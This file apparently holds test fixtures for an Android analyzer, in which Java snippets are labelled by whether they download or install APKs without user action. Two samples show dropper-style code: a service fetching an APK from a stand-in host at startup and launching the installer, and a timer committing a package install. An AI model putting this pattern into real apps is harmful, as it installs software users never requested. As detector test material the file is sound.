import { noGate, type Recipe } from '../recipe.ts';

export const downloads: readonly Recipe[] = [
  {
    id: 'download-on-button',
    about: 'The same from a button that says 立即下载: a user action, no finding.',
    java: `package com.xiazai.b;
class MainActivity extends Activity {
  protected void onCreate(Bundle b) { super.onCreate(b); Button x = new Button(this); x.setText("立即下载"); x.setOnClickListener(v -> fetch()); setContentView(x); }
  void fetch() { ((DownloadManager) getSystemService("download")).enqueue(new DownloadManager$Request(Uri.parse("https://dl.example.cn/game.apk"))); }
}`,
    truth: { downloads: [], gate: noGate },
  },
  {
    id: 'download-install-chain',
    about: 'A service downloads by URL and file stream; a broadcast of completion opens the installer.',
    java: `package com.xiazai.c;
class App extends Application { public void onCreate() { super.onCreate(); startService(new Intent(this, Fetch.class)); } }
class Fetch extends IntentService {
  public Fetch() { super("fetch"); }
  protected void onHandleIntent(Intent i) {
    try {
      InputStream in = new URL("https://dl.example.cn/plug.apk").openStream();
      File f = new File(getExternalCacheDir(), "plug.apk");
      FileOutputStream out = new FileOutputStream(f);
      byte[] buffer = new byte[8192];
      int n = in.read(buffer);
      while (n > 0) { out.write(buffer); n = in.read(buffer); }
      out.close();
      Installer.open(this, f);
    } catch (IOException e) { Log.e("c", "x", e); }
  }
}
class Installer { static void open(Context c, File f) { Intent i = new Intent("android.intent.action.VIEW"); i.setDataAndType(Uri.fromFile(f), "application/vnd.android.package-archive"); i.addFlags(268435456); c.startActivity(i); } }`,
    manifest: { application: { name: '.App' }, services: [{ name: '.Fetch', exported: false }] },
    truth: {
      downloads: [
        { what: 'download', in: 'Fetch.onHandleIntent', trigger: 'process-start' },
        { what: 'install', in: 'Installer.open', trigger: 'process-start' },
      ],
      gate: noGate,
    },
  },
  {
    id: 'download-package-installer',
    about: 'PackageInstaller.Session.commit from a timer.',
    java: `package com.xiazai.d;
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); new Timer().schedule(new InstallTask(this), 60000L); } }
class InstallTask extends TimerTask {
  final Context c; InstallTask(Context x) { c = x; }
  public void run() {
    PackageInstaller pi = c.getPackageManager().getPackageInstaller();
    int id = pi.createSession(new PackageInstaller$SessionParams(1));
    PackageInstaller$Session s = pi.openSession(id);
    s.commit(PendingIntent.getBroadcast(c, 0, new Intent("x"), 0).getIntentSender());
  }
}`,
    truth: { downloads: [{ what: 'install', in: 'InstallTask.run', trigger: 'first-screen' }], gate: noGate },
  },
  {
    id: 'download-json-not-apk',
    about: 'The first screen reads a configuration over the network: no download in the sense of the scene.',
    java: `package com.xiazai.g;
class MainActivity extends Activity { protected void onCreate(Bundle b) { super.onCreate(b); new Thread(() -> { try { BufferedReader r = new BufferedReader(new InputStreamReader(new URL("https://cfg.example.cn/app.json").openStream())); Log.d("g", r.readLine()); } catch (IOException e) { Log.d("g", "no"); } }).start(); } }`,
    truth: { downloads: [], gate: noGate },
  },
];
